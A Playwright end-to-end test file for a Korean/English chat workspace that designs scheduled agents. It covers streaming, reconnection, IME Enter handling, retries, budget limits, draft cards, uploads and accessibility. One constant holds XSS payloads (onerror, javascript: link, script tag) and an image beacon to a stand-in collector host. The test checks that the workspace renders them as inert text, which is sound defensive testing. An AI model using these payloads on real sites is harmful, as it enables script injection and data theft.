"""The workspace in a real browser: what a person sees of a conversation, and what their keys and clicks do."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.chat_service import ChatService
from tests.e2e.browsing import Visitor
from tests.e2e.chatting import (
    ASKING,
    DRAFT,
    PRICE,
    QUESTION,
    REHEARSAL,
    SAVED,
    SPENT,
    TIMES,
    TRIED,
    WISH,
    Chatter,
    Meet,
)
from tests.platform_process import PlatformProcess

pytestmark = pytest.mark.browser

ANSWER = "좋아요. **매일 아침 8시**에 실행합니다.\n\n| 단계 | 하는 일 |\n|---|---|\n| 1 | 읽기 |\n\n확인해 주세요."
HOSTILE = (
    "<img src=x onerror=window.pwned=1> [press](javascript:window.pwned=1) "
    "![p](https://collector.example.com/?stolen=1)\n\n<script>window.pwned=1</script>"
)


@pytest.fixture
def service() -> Iterator[ChatService]:
    with ChatService() as service:
        yield service


@pytest.fixture
def meet(browser: Browser, house: PlatformProcess, service: ChatService) -> Iterator[Meet]:
    """Somebody in the workspace; when they leave, nothing may have been blocked, broken or sent elsewhere."""
    visitors: list[Visitor] = []

    def come(locale: str = "ko-KR", scheme: str = "light", width: int = 1180, uploads: int | None = None) -> Chatter:
        visitors.append(Visitor.come(browser, house.url, locale=locale, scheme=scheme, width=width))
        chatter = Chatter(visitors[-1], service, uploads)
        chatter.come()
        return chatter

    yield come
    for visitor in visitors:
        visitor.leave()


def tell_all(service: ChatService) -> None:
    """An answer with every kind of card."""
    service.keep("text", part=0, text=ANSWER)
    for kind, data in (
        ("draft", DRAFT), ("schedule", TIMES), ("price", PRICE), ("rehearsal", TRIED), ("agent", SAVED),
        ("choice", QUESTION),
    ):  # fmt: skip
        service.card(kind, data)
    meter = {"tokenUsage": SPENT, "costMicroUsd": 4_120, "budgetMicroUsd": 1_000_000}
    service.keep("usage", tokenUsage=SPENT, costMicroUsd=4_120, conversation=meter)
    service.end()


# A conversation


def test_an_answer_is_seen_while_it_is_written_and_again_after_a_reload(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.pass_by("status", text="일정 확인 중… 3초", tool="schedule")
    service.text(0, "좋아요. **매일")
    expect(guest.page.get_by_test_id("status")).to_have_text("일정 확인 중… 3초")
    expect(guest.answer).to_contain_text("좋아요. **매일")
    service.text(0, " 아침 8시**에 실행합니다.", 9)
    expect(guest.answer.locator("strong")).to_have_text("매일 아침 8시")
    tell_all(service)
    expect(guest.page.get_by_test_id("turn-usage")).to_have_text("입력 2,200 · 출력 480 토큰 · 비용 $0.0041")
    expect(guest.page.get_by_test_id("meter")).to_contain_text("$0.0041 / $1.00")
    expect(guest.page.get_by_test_id("status")).to_have_count(0)
    seen = guest.log.inner_text()
    guest.page.reload()
    expect(guest.page.locator("[data-card]")).to_have_count(6)
    guest.until(lambda: guest.log.inner_text() == seen)
    assert guest.asked() == [WISH]


def test_a_second_window_shows_the_same_conversation_at_once(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    other = guest.page.context.new_page()
    other.goto(guest.page.url)
    expect(other.locator(".bubble")).to_have_text(WISH)
    service.text(0, "둘 다에게")
    for page in (guest.page, other):
        expect(page.locator(".answer")).to_contain_text("둘 다에게")
    service.keep("text", part=0, text="둘 다에게.")
    service.end()
    other.get_by_role("textbox", name="메시지").fill("다음은?")
    other.keyboard.press("Enter")
    expect(guest.page.locator(".bubble")).to_have_text([WISH, "다음은?"])
    other.close()


def test_after_a_lost_connection_it_goes_on_where_it_was_and_says_so(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.keep("text", part=0, text="하나")
    expect(guest.answer).to_contain_text("하나")
    service.refuse_streams = True
    service.cut()
    expect(guest.page.get_by_test_id("reconnecting")).to_be_visible()
    service.keep("text", part=1, text="둘")
    service.end()
    service.refuse_streams = False
    expect(guest.answer.locator(".growing")).to_have_text(["하나", "둘"], timeout=30_000)
    expect(guest.page.get_by_test_id("reconnecting")).to_have_count(0)
    assert "GET /api/conversations/c1/stream?after=2" in service.paths


def test_words_that_were_void_go_and_the_new_ones_stand_in_their_place(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.text(0, "틀린 말")
    expect(guest.answer).to_contain_text("틀린 말")
    service.keep("part_reset", part=0)
    service.text(0, "맞는 말")
    expect(guest.answer.locator(".growing")).to_have_text("맞는 말")


def test_a_block_that_stands_is_not_drawn_again_while_the_end_grows(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    text = ""
    for number in range(6):
        piece = f"문단 {number}입니다.\n\n"
        service.text(0, piece, len(text))
        text += piece
    expect(guest.answer.locator(".markdown")).to_have_count(6)
    first = guest.answer.locator(".markdown p").first
    first.evaluate("element => { element.marked = true }")
    service.text(0, "끝 문단", len(text))
    expect(guest.answer.locator(".markdown").last).to_have_text("끝 문단")
    assert first.evaluate("element => element.marked") is True


def test_nothing_jumps_while_an_answer_grows(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    places = [guest.field.bounding_box(), guest.page.locator(".bubble").bounding_box()]
    service.pass_by("status", text="생각하는 중…")
    service.text(0, "짧은 답")
    expect(guest.answer).to_contain_text("짧은 답")
    assert [guest.field.bounding_box(), guest.page.locator(".bubble").bounding_box()] == places
    service.keep("text", part=0, text="짧은 답")
    service.end()
    expect(guest.page.get_by_test_id("status")).to_have_count(0)
    assert guest.field.bounding_box() == places[0]


def test_who_reads_further_up_is_left_there_and_may_jump_to_the_end(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    text = "".join(f"줄 {number}\n\n" for number in range(60))
    service.text(0, text)
    at_end = "log => log.scrollHeight - log.scrollTop - log.clientHeight < 4"
    expect(guest.answer).to_contain_text("줄 59")
    guest.until(lambda: guest.log.evaluate(at_end))
    # only the transcript scrolls: below it the page has nothing
    assert guest.page.evaluate("document.documentElement.scrollHeight - innerHeight") <= 0
    guest.log.evaluate("log => { log.scrollTop = 100 }")
    jump = guest.page.get_by_role("button", name="최신으로")
    expect(jump).to_be_visible()
    service.text(0, "더 온 말", len(text))
    expect(guest.answer).to_contain_text("더 온 말")
    assert guest.log.evaluate("log => log.scrollTop") == 100
    jump.click()
    guest.until(lambda: guest.log.evaluate(at_end))
    expect(jump).to_have_count(0)


def test_what_a_model_writes_is_shown_and_does_nothing(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.title = HOSTILE
    service.keep("text", part=0, text=HOSTILE)
    service.card("draft", DRAFT | {"agent": DRAFT["agent"] | {"name": HOSTILE, "finalPrompt": HOSTILE}})
    service.card("rehearsal", TRIED | {"result": HOSTILE})
    service.card("choice", {"question": HOSTILE, "options": [{"label": HOSTILE, "text": "x"}]})
    service.end("error", detail={"ko": HOSTILE, "en": HOSTILE})
    expect(guest.answer).to_contain_text("<script>window.pwned=1</script>")
    assert guest.page.locator("main :is(script, iframe, form.evil, img, [onclick], [onerror])").count() == 0
    assert guest.page.evaluate("window.pwned") is None


# Keys


def ime(guest: Chatter):  # type: ignore[no-untyped-def]
    """The browser's own input method, by its debugging protocol."""
    return guest.page.context.new_cdp_session(guest.page)


def compose(session, text: str) -> None:  # type: ignore[no-untyped-def]
    session.send("Input.imeSetComposition", {"text": text, "selectionStart": len(text), "selectionEnd": len(text)})


def taken_enter(session) -> None:  # type: ignore[no-untyped-def]
    """Enter as the input method takes it: the key, then what it does to the text."""
    session.send(
        "Input.dispatchKeyEvent",
        {"type": "rawKeyDown", "key": "Process", "code": "Enter", "windowsVirtualKeyCode": 229},
    )


def test_one_enter_within_a_hangul_syllable_sends_the_whole_message_once(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.field.focus()
    session = ime(guest)
    session.send("Input.insertText", {"text": "안녕하세"})
    compose(session, "요")
    taken_enter(session)
    session.send("Input.insertText", {"text": "요"})
    expect(guest.page.locator("[data-turn] .bubble")).to_have_text("안녕하세요")
    guest.page.wait_for_timeout(300)
    expect(guest.field).to_have_value("")
    assert guest.asked() == ["안녕하세요"]


def test_the_enter_that_a_browser_tells_twice_sends_once(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.field.focus()
    session = ime(guest)
    session.send("Input.insertText", {"text": "안녕하세"})
    compose(session, "요")
    taken_enter(session)
    session.send("Input.insertText", {"text": "요"})
    guest.page.keyboard.press("Enter")
    expect(guest.page.locator("[data-turn] .bubble")).to_have_text("안녕하세요")
    guest.page.wait_for_timeout(300)
    assert guest.asked() == ["안녕하세요"]


@pytest.mark.parametrize("candidate", ["日本語", "你好"])
def test_the_enter_that_confirms_a_candidate_sends_nothing(meet: Meet, service: ChatService, candidate: str) -> None:
    guest = meet()
    guest.field.focus()
    session = ime(guest)
    compose(session, candidate)
    taken_enter(session)
    session.send("Input.insertText", {"text": candidate})
    guest.page.wait_for_timeout(300)
    expect(guest.field).to_have_value(candidate)
    assert guest.asked() == []
    guest.page.keyboard.press("Enter")
    expect(guest.page.locator("[data-turn] .bubble")).to_have_text(candidate)
    assert guest.asked() == [candidate]


SAFARI = """
(field, [text, data]) => {
  const tell = (event) => field.dispatchEvent(event);
  tell(new CompositionEvent("compositionstart", {bubbles: true}));
  tell(new CompositionEvent("compositionupdate", {bubbles: true, data}));
  field.value = text;
  tell(new InputEvent("input", {bubbles: true, inputType: "insertCompositionText", data}));
  tell(new CompositionEvent("compositionend", {bubbles: true, data}));
  const key = {bubbles: true, cancelable: true, key: "Enter", code: "Enter", keyCode: 229};
  return tell(new KeyboardEvent("keydown", key));
}
"""


@pytest.mark.parametrize(("text", "data", "sent"), [("안녕하세요", "요", ["안녕하세요"]), ("日本", "日本", [])])
def test_in_safaris_order_hangul_is_sent_and_a_candidate_is_not(
    meet: Meet, service: ChatService, text: str, data: str, sent: list[str]
) -> None:
    guest = meet()
    guest.field.focus()
    guest.field.evaluate(SAFARI, [text, data])
    if sent:
        expect(guest.page.locator("[data-turn] .bubble")).to_have_text(text)
    guest.page.wait_for_timeout(300)
    assert guest.asked() == sent


def test_shift_and_enter_break_the_line(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.field.fill("하나")
    guest.field.press("Shift+Enter")
    guest.page.keyboard.insert_text("둘")
    guest.field.press("Enter")
    expect(guest.page.locator("[data-turn]")).to_have_count(1)
    assert guest.asked() == ["하나\n둘"]


def test_the_keys_of_the_workspace_do_what_their_list_says(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.keep("text", part=0, text="네")
    service.end()
    expect(guest.page.locator("[data-end=done]")).to_be_visible()
    guest.field.press("ArrowUp")
    expect(guest.field).to_have_value(WISH)
    guest.field.fill("")
    guest.log.focus()
    guest.page.keyboard.press("?")
    keys = guest.page.get_by_role("dialog", name="단축키")
    expect(keys).to_contain_text("마지막 메시지 고치기")
    assert guest.visitor.accessibility() == []
    guest.page.keyboard.press("Escape")
    expect(keys).to_have_count(0)
    guest.log.focus()
    guest.page.keyboard.press("/")
    expect(guest.field).to_be_focused()
    expect(guest.field).to_have_value("")
    guest.page.keyboard.type("1/2?")
    expect(guest.field).to_have_value("1/2?")


@pytest.mark.parametrize("way", ["button", "key"])
def test_send_turns_into_stop_and_the_text_so_far_stays(meet: Meet, service: ChatService, way: str) -> None:
    guest = meet()
    guest.say(WISH)
    stop = guest.page.get_by_role("button", name="중지", exact=True)
    service.text(0, "여기까지")
    expect(guest.answer).to_contain_text("여기까지")
    guest.field.fill("아직 보내지 않은 말")
    guest.field.press("Enter")
    if way == "button":
        stop.click()
    else:
        guest.page.keyboard.press("Escape")
    expect(guest.page.get_by_test_id("status")).to_have_text("멈추는 중…")
    expect(stop).to_be_disabled()
    service.keep("text", part=0, text="여기까지")
    service.end("stopped")
    expect(guest.answer).to_contain_text("중지했습니다.")
    expect(guest.answer).to_contain_text("여기까지")
    expect(guest.page.get_by_role("button", name="보내기", exact=True)).to_be_enabled()
    expect(guest.field).to_have_value("아직 보내지 않은 말")
    assert guest.asked() == [WISH]
    guest.until(lambda: len(service.bodies("POST /api/conversations/c1/stop")) == 1)


def test_what_is_typed_outlives_a_reload_and_belongs_to_its_conversation(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.field.fill("새 대화의 말")
    guest.page.reload()
    expect(guest.field).to_have_value("새 대화의 말")
    guest.say(WISH)
    service.end()
    guest.field.fill("이 대화의 말")
    guest.page.get_by_role("link", name="새 대화").click()
    expect(guest.field).to_have_value("")
    guest.page.get_by_role("link", name=service.title).click()
    expect(guest.field).to_have_value("이 대화의 말")
    guest.page.get_by_role("button", name="로그아웃").click()
    expect(guest.page.get_by_role("button", name="게스트로 체험")).to_be_visible()
    assert guest.page.evaluate("Object.keys(localStorage).filter(key => /^oma\\.(typed|sent)/.test(key))") == []


# What goes wrong


def test_a_refused_message_stays_and_is_sent_again_as_the_same_message(meet: Meet, service: ChatService) -> None:
    guest = meet()
    service.refusals.append((409, {"code": "conflict", "detail": "아직 답변을 작성하고 있습니다.", "requestId": "r1"}))
    guest.field.fill(WISH)
    guest.field.press("Enter")
    expect(guest.log).to_contain_text("아직 답변을 작성하고 있습니다.")
    expect(guest.log).to_contain_text("r1")
    guest.log.get_by_role("button", name="다시 시도").click()
    expect(guest.page.locator("[data-turn]")).to_have_count(1)
    first, second = service.bodies(ASKING)
    assert first == second


def test_a_message_whose_answer_was_lost_is_sent_again_and_begins_one_turn(meet: Meet, service: ChatService) -> None:
    guest = meet()
    service.lose_answers = 1
    guest.say(WISH)
    service.end()
    expect(guest.page.locator("[data-turn]")).to_have_count(1)
    assert len({body["clientMessageId"] for body in service.bodies(ASKING)}) == 1
    assert len(service.bodies(ASKING)) == 2


def test_a_message_outlives_a_reload_that_comes_before_its_answer(meet: Meet, service: ChatService) -> None:
    guest = meet()
    service.hold.clear()
    guest.field.fill(WISH)
    guest.field.press("Enter")
    expect(guest.log).to_contain_text("보내는 중…")
    guest.page.reload()
    expect(guest.page.locator("[data-sending] .bubble")).to_have_text(WISH)
    service.hold.set()
    guest.log.get_by_role("button", name="다시 시도").click()
    expect(guest.page.locator("[data-turn] .bubble")).to_have_text(WISH)
    expect(guest.page.locator("[data-sending]")).to_have_count(0)
    service.end()
    assert len({body["clientMessageId"] for body in service.bodies(ASKING)}) == 1
    guest.page.get_by_role("link", name="새 대화").click()
    expect(guest.page.get_by_text("어떤 일을 맡기고 싶으세요?")).to_be_visible()
    expect(guest.page.locator("[data-sending]")).to_have_count(0)


@pytest.mark.parametrize("reason", ["error", "interrupted"])
def test_an_answer_that_broke_off_says_why_and_can_be_asked_for_again(
    meet: Meet, service: ChatService, reason: str
) -> None:
    guest = meet()
    guest.say(WISH)
    service.end(reason, code="upstream", detail={"ko": "모델이 바쁩니다.", "en": "The model is busy."})
    expect(guest.answer).to_contain_text("모델이 바쁩니다.")
    guest.answer.get_by_role("button", name="다시 보내기").click()
    expect(guest.page.locator("[data-turn]")).to_have_count(2)
    first, second = service.bodies(ASKING)
    assert first["message"] == second["message"]
    assert first["clientMessageId"] != second["clientMessageId"]


def test_the_end_of_the_budget_is_clear_and_leads_to_a_new_conversation(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    meter = {"tokenUsage": SPENT, "costMicroUsd": 1_000_000, "budgetMicroUsd": 1_000_000}
    service.keep("usage", tokenUsage=SPENT, costMicroUsd=1_000_000, conversation=meter)
    service.end("budget")
    expect(guest.answer).to_contain_text("비용을 다 썼습니다")
    expect(guest.answer.get_by_role("link", name="한도와 사용량 보기")).to_have_count(0)
    expect(guest.field).to_be_disabled()
    guest.answer.get_by_role("link", name="새 대화").click()
    expect(guest.field).to_be_enabled()
    expect(guest.page.locator("[data-turn]")).to_have_count(0)


def test_the_end_of_the_month_leads_to_the_limits(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    meter = {"tokenUsage": SPENT, "costMicroUsd": 4_120, "budgetMicroUsd": 1_000_000}
    service.keep("usage", tokenUsage=SPENT, costMicroUsd=4_120, conversation=meter)
    service.end("budget", detail={"ko": "이번 달 한도입니다.", "en": "The month."})
    expect(guest.answer).to_contain_text("이번 달 한도입니다.")
    expect(guest.answer.get_by_role("link", name="한도와 사용량 보기")).to_have_attribute("href", "#/account")
    expect(guest.answer.get_by_role("link", name="새 대화")).to_have_count(0)


def test_a_conversation_that_is_not_there_says_so(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.visitor.open("#/chat/another")
    expect(guest.page.get_by_role("alert")).to_contain_text("찾을 수 없습니다")
    expect(guest.field).to_be_disabled()


# Cards


def test_a_draft_is_saved_by_a_click_once_and_leads_to_its_agent(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.card("draft", DRAFT)
    service.end()
    save = "POST /api/conversations/c1/draft/save"
    service.answers[save] = (201, {"id": "a1", "name": "경쟁사 뉴스 요약"})
    card = guest.card("draft")
    expect(card).to_contain_text("매일 오전 8:00")
    assert service.bodies(save) == []
    service.hold.clear()
    card.get_by_role("button", name="저장하고 일정 켜기").dblclick()
    expect(card.get_by_role("button", name="저장하는 중…")).to_be_disabled()
    service.hold.set()
    expect(card).to_contain_text("저장됨")
    expect(card.get_by_role("link", name="에이전트 보기")).to_have_attribute("href", "#/agents/a1")
    assert service.bodies(save) == [{"revision": 1, "activate": True}]
    assert all(service.keys(save))


def test_only_what_was_changed_by_hand_is_sent_and_mistakes_stand_at_their_fields(
    meet: Meet, service: ChatService
) -> None:
    guest = meet()
    guest.say(WISH)
    service.card("draft", DRAFT)
    service.end()
    change = "PATCH /api/conversations/c1/draft"
    errors = [{"field": "agent.network.allow.0", "message": "주소가 아닙니다."}]
    service.answers[change] = (422, {"code": "invalid", "detail": "?", "errors": errors})
    card = guest.card("draft")
    card.get_by_role("button", name="직접 고치기").click()
    guest.page.locator("#field-hosts").fill("news.example.org")
    card.get_by_role("button", name="저장", exact=True).click()
    expect(guest.page.locator("#wrong-hosts")).to_contain_text("주소가 아닙니다.")
    changed = DRAFT["agent"] | {"network": {"allow": ["news.example.org"]}}
    service.answers[change] = (200, DRAFT | {"revision": 2, "agent": changed, "changed": ["network"]})
    card.get_by_role("button", name="저장", exact=True).click()
    expect(card).to_contain_text("news.example.org 바뀜")
    assert service.bodies(change)[-1] == {"revision": 1, "agent": {"network": {"allow": ["news.example.org"]}}}


def test_the_next_version_of_an_agent_is_saved_without_starting_it(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.card("draft", DRAFT | {"agentId": "a1", "revision": 4, "changed": ["schedule"]})
    service.end()
    save = "POST /api/conversations/c1/draft/save"
    service.answers[save] = (200, {"id": "a1", "name": "경쟁사 뉴스 요약"})
    expect(guest.card("draft")).to_contain_text("매일 오전 8:00 바뀜")
    guest.card("draft").get_by_role("button", name="저장 (새 버전)").click()
    expect(guest.card("draft")).to_contain_text("저장됨")
    expect(guest.card("draft")).not_to_contain_text("바뀜")
    assert service.bodies(save) == [{"revision": 4, "activate": False}]


def test_the_price_is_asked_for_again_when_what_it_depends_on_has_changed(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    unknown = PRICE | {"perRun": None, "perMonth": None, "basis": "none", "rehearsals": 0}
    service.card("draft", DRAFT)
    service.card("price", unknown)
    service.end()
    expect(guest.card("price")).to_contain_text("아직 모름 (최대 $0.30)")
    asked = "GET /api/conversations/c1/price"
    assert service.bodies(asked) == []
    service.answers[asked] = (200, PRICE | {"rehearsals": 1})
    service.card("rehearsal", TRIED)
    expect(guest.card("price")).to_contain_text("$0.012~$0.021")
    expect(guest.card("price")).to_contain_text("시험 실행 1번")
    service.card("price", PRICE | {"rehearsals": 1}, id="later")
    prices = guest.page.locator("[data-card=price]")
    expect(prices).to_have_count(2)
    expect(prices.first).to_contain_text("시험 실행 1번")


def test_a_draft_that_changed_meanwhile_is_not_saved_and_says_so(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.card("draft", DRAFT)
    service.end()
    detail = "그 사이에 초안이 바뀌었습니다."
    service.answers["POST /api/conversations/c1/draft/save"] = (409, {"code": "conflict", "detail": detail})
    guest.card("draft").get_by_role("button", name="저장하고 일정 켜기").click()
    expect(guest.card("draft")).to_contain_text(detail)
    guest.say("저녁 6시로 바꿔 줘")
    service.card("draft", DRAFT | {"revision": 2})
    expect(guest.page.locator("details.old")).to_contain_text("이전 초안")
    expect(guest.page.get_by_role("button", name="저장하고 일정 켜기")).to_have_count(1)


def test_a_test_run_starts_by_a_click_and_shows_what_it_does_and_did(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.card("rehearsal", REHEARSAL)
    service.end()
    start = "POST /api/conversations/c1/rehearsals"
    service.answers[start] = (202, {"id": "e1", "status": "queued"})
    card = guest.card("rehearsal")
    expect(card).to_contain_text("최대 $0.10")
    assert service.bodies(start) == []
    card.get_by_role("button", name="한 번 시험 실행").click()
    expect(card).to_have_attribute("data-state", "queued")
    going = REHEARSAL | {"state": "running", "executionId": "e1", "seconds": 7}
    service.pass_by("card", card="rehearsal", kind="rehearsal", data=going)
    expect(card).to_contain_text("7초")
    service.card("rehearsal", TRIED)
    for words in ("성공", "소식 하나", "12초", "입력 2,200 · 출력 480 토큰", "$0.0153", "cdn.example.org", "report.md"):
        expect(card).to_contain_text(words)
    card.get_by_role("button", name="허용하고 다시 시험 실행: cdn.example.org").click()
    guest.until(lambda: len(service.bodies(start)) == 2)
    assert service.bodies(start) == [{"revision": 1}, {"revision": 1, "allow": ["cdn.example.org"]}]
    assert len(set(service.keys(start))) == 2


def test_schedule_price_and_agent_are_told_in_words(meet: Meet, service: ChatService) -> None:
    guest = meet(locale="en-US")
    guest.say(WISH)
    tell_all(service)
    expect(guest.card("schedule")).to_contain_text("Every day at 8:00 AM")
    expect(guest.card("schedule").locator("time")).to_have_count(5)
    expect(guest.card("price")).to_contain_text("$0.012 to $0.021")
    expect(guest.card("price")).to_contain_text("test runs (2 so far)")
    expect(guest.card("agent").get_by_role("link")).to_have_attribute("href", "#/agents/a1")
    unknown = PRICE | {"perRun": None, "perMonth": None, "basis": "none", "rehearsals": 0}
    guest.say("And now?")
    service.card("price", unknown)
    expect(guest.card("price")).to_contain_text("Not known yet (at most $0.30)")


def test_a_quick_reply_is_said_once_and_only_while_it_is_the_question(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.card("choice", QUESTION)
    reply = guest.card("choice").get_by_role("button", name="메일로")
    expect(reply).to_be_disabled()
    service.end()
    reply.dblclick()
    expect(guest.page.locator(".bubble").last).to_have_text("메일로 보내 줘")
    expect(guest.page.locator("[data-turn]")).to_have_count(2)
    service.end()
    expect(reply).to_be_disabled()
    assert guest.asked() == [WISH, "메일로 보내 줘"]


# Beginnings, files, the list


def test_an_example_fills_the_message_in_and_sends_nothing(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.page.get_by_role("button", name="경쟁사 뉴스 요약").click()
    expect(guest.field).to_have_value(WISH)
    guest.field.fill("")
    guest.visitor.open("#/agents")
    guest.page.get_by_role("button", name=re.compile("주간 매출 요약 ?매주")).click()
    expect(guest.page).to_have_url(re.compile("#/chat$"))
    expect(guest.field).to_have_value(re.compile("매출"))
    expect(guest.field).to_be_focused()
    guest.page.wait_for_timeout(300)
    assert guest.asked() == []


def test_from_an_agent_its_conversation_is_about_it(meet: Meet, service: ChatService) -> None:
    guest = meet()
    agent = guest.visitor.make_agent("보고", "해 줘")
    guest.page.get_by_role("link", name="채팅에서 고치기").click()
    expect(guest.log).to_contain_text("“보고”에 대해")
    guest.say("더 짧게 써 줘")
    assert service.bodies(ASKING)[0]["agentId"] == agent
    assert guest.page.locator(".bubble").inner_text() == "더 짧게 써 줘"


def test_files_are_offered_only_where_they_can_be_sent(meet: Meet) -> None:
    guest = meet()
    expect(guest.page.get_by_label("파일 붙이기")).to_have_count(0)


def test_files_go_with_a_message_and_may_be_taken_back(meet: Meet, service: ChatService) -> None:
    guest = meet(uploads=1000)
    service.answers["POST /api/uploads"] = (201, {"id": "u1", "name": "매출.csv", "mediaType": "text/csv", "bytes": 9})
    picker = guest.page.locator("input[type=file]")
    picker.set_input_files({"name": "매출.csv", "mimeType": "text/csv", "buffer": b"a,b\n1,2\n"})
    chips = guest.page.get_by_role("list", name="붙인 파일").locator("li")
    expect(chips).to_contain_text("9 B")
    picker.set_input_files({"name": "큰 파일.pdf", "mimeType": "application/pdf", "buffer": b"x" * 1001})
    expect(chips.last).to_contain_text("1000 B보다 큽니다.")
    assert guest.visitor.accessibility() == []
    chips.last.get_by_role("button", name="큰 파일.pdf 빼기").click()
    expect(chips).to_have_count(1)
    guest.say("이 파일을 요약해 줘")
    assert service.bodies(ASKING)[0]["files"] == ["u1"]
    assert len(service.bodies("POST /api/uploads")) == 1
    expect(guest.page.locator(".mine .chip")).to_contain_text("9 B")


def test_a_conversation_is_deleted_only_after_a_second_click(meet: Meet, service: ChatService) -> None:
    guest = meet()
    guest.say(WISH)
    service.end()
    guest.page.get_by_role("button", name=f"대화 삭제: {service.title}").click()
    assert service.bodies("DELETE /api/conversations/c1") == []
    guest.page.get_by_role("button", name="삭제", exact=True).click()
    expect(guest.page.get_by_text("아직 대화가 없습니다.")).to_be_visible()
    expect(guest.page).to_have_url(re.compile("#/chat$"))


# For everybody


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize(("locale", "width"), [("ko-KR", 1180), ("en-US", 390)])
def test_nothing_stands_in_the_way_of_anybody(
    meet: Meet, service: ChatService, scheme: str, locale: str, width: int
) -> None:
    guest = meet(locale=locale, scheme=scheme, width=width)

    def check(name: str) -> None:
        guest.visitor.picture(f"chat-{locale[:2]}-{scheme}-{width}-{name}")
        assert guest.visitor.accessibility() == []
        assert guest.page.evaluate("document.documentElement.scrollWidth") == width
        assert guest.page.evaluate("document.documentElement.scrollHeight") == 860

    check("empty")
    guest.say(WISH)
    service.pass_by("status", text="시험 실행 중… 12초")
    service.text(0, ANSWER + "y" * 400)
    expect(guest.answer).to_contain_text("yyy")
    check("streaming")
    tell_all(service)
    expect(guest.card("choice")).to_be_visible()
    check("cards")
    guest.page.locator("[data-card=draft] .row button").last.click()
    expect(guest.page.locator("#field-name")).to_be_visible()
    check("editing")
    if width == 390:
        guest.page.get_by_role("button", name="List of conversations").click()
        expect(guest.page.get_by_role("dialog")).to_contain_text("New conversation")
        assert guest.visitor.accessibility() == []
        guest.page.keyboard.press("Escape")
        expect(guest.page.get_by_role("dialog")).to_have_count(0)


def test_the_keyboard_alone_designs_an_agent(meet: Meet, service: ChatService) -> None:
    guest = meet()
    expect(guest.field).to_be_focused()
    guest.page.keyboard.insert_text(WISH)
    guest.page.keyboard.press("Enter")
    expect(guest.page.locator("[data-turn]")).to_have_count(1)
    service.card("draft", DRAFT)
    service.end()
    service.answers["POST /api/conversations/c1/draft/save"] = (201, {"id": "a1", "name": "뉴스"})
    expect(guest.page.locator("[data-end=done]")).to_be_visible()
    expect(guest.field).to_be_focused()
    for _ in range(12):
        guest.page.keyboard.press("Shift+Tab")
        if guest.page.evaluate("document.activeElement.textContent") == "저장하고 일정 켜기":
            break
    guest.page.keyboard.press("Enter")
    expect(guest.card("draft")).to_contain_text("저장됨")
